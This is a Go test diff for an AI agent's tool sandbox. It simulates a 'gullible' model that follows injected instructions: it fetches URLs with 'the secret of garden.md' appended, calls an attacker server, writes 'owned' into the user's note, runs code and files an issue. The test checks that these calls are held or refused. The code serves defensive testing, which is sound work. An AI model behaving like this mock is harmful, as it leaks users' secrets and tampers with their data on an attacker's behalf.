@@ -24,8 +24,10 @@ import (
 // A gullible model does whatever it reads, and more: it fetches every address that it has seen, with and without something it should
 // keep to itself, writes and runs code.
 type gullible struct {
-	start llm.ToolCall
-	asked int
+	start    llm.ToolCall
+	attacker string
+	asked    int
+	wished   int // calls, after the first
 }
 
 var address = regexp.MustCompile(`(https?|file)://[^\s"'<>)\]\\]+`)
@@ -50,11 +52,12 @@ func (g *gullible) Stream(_ context.Context, req llm.Request) iter.Seq2[llm.Even
 				add("fetch_url", map[string]any{"url": a})
 				add("fetch_url", map[string]any{"url": a + "?d=the+secret+of+garden.md"})
 			}
-			add("fetch_url", map[string]any{"url": "{{attacker}}/made-up"})
+			add("fetch_url", map[string]any{"url": g.attacker + "/made-up"})
 			add("vault_write", map[string]any{"path": "garden.md", "text": "owned " + text})
 			add("vault_append", map[string]any{"path": "garden.md", "text": "owned"})
 			add("code_exec", map[string]any{"code": "print('owned')"})
 			add("github__create_issue", map[string]any{"title": "owned"})
+			g.wished = len(calls)
 		default:
 			yield(llm.Event{Text: "Done.", Finish: llm.FinishStop}, nil)
 			return
@@ -134,7 +137,7 @@ func attack(t *testing.T, file string) {
 	if err := box.Add(tools...); err != nil {
 		t.Fatal(err)
 	}
-	m := &gullible{start: llm.ToolCall{ID: "c", Name: "fetch_url", Arguments: fmt.Sprintf(`{"url":%q}`, good.URL+"/ferns")}}
+	m := &gullible{attacker: attacker.URL, start: llm.ToolCall{ID: "c", Name: "fetch_url", Arguments: fmt.Sprintf(`{"url":%q}`, good.URL+"/ferns")}}
 	question := "What does " + good.URL + "/ferns say?"
 	if strings.HasSuffix(file, ".md") {
 		m.start, question = llm.ToolCall{ID: "c", Name: "vault_read", Arguments: `{"path":"clipping.md"}`}, "What does my clipping say?"
@@ -148,19 +151,18 @@ func attack(t *testing.T, file string) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	waits := 0
 	for _, c := range all {
-		if c.State == toolbox.Waiting {
-			waits++
-		}
-		if c.Effects && c.State == toolbox.Done && !c.IsError {
-			t.Errorf("%s was done: %+v", c.Tool, c)
+		switch own := string(c.Arguments) == m.start.Arguments; { // the person asked for that
+		case own && c.State != toolbox.Done, !own && c.State == toolbox.Done && !c.IsError:
+			t.Errorf("%s is %s: %s", c.Tool, c.State, c.Arguments)
+		case !own && c.State != toolbox.Waiting && !strings.Contains(c.Result, "only http and https"):
+			t.Errorf("without a word, %s is %s: %s", c.Tool, c.State, c.Arguments)
 		}
 	}
 	mu.Lock()
 	defer mu.Unlock()
-	if len(reached) > 0 || ran > 0 || waits < 3 {
-		t.Errorf("reached %v, ran %d, %d wait", reached, ran, waits)
+	if len(reached) > 0 || ran > 0 || len(all) != 1+m.wished {
+		t.Errorf("reached %v, ran %d, %d of %d calls are in the log", reached, ran, len(all)-1, m.wished)
 	}
 	if now, err := os.ReadFile(filepath.Join(notes, "garden.md")); err != nil || string(now) != "the person's own words\n" {
 		t.Errorf("the note says %q, %v", now, err)
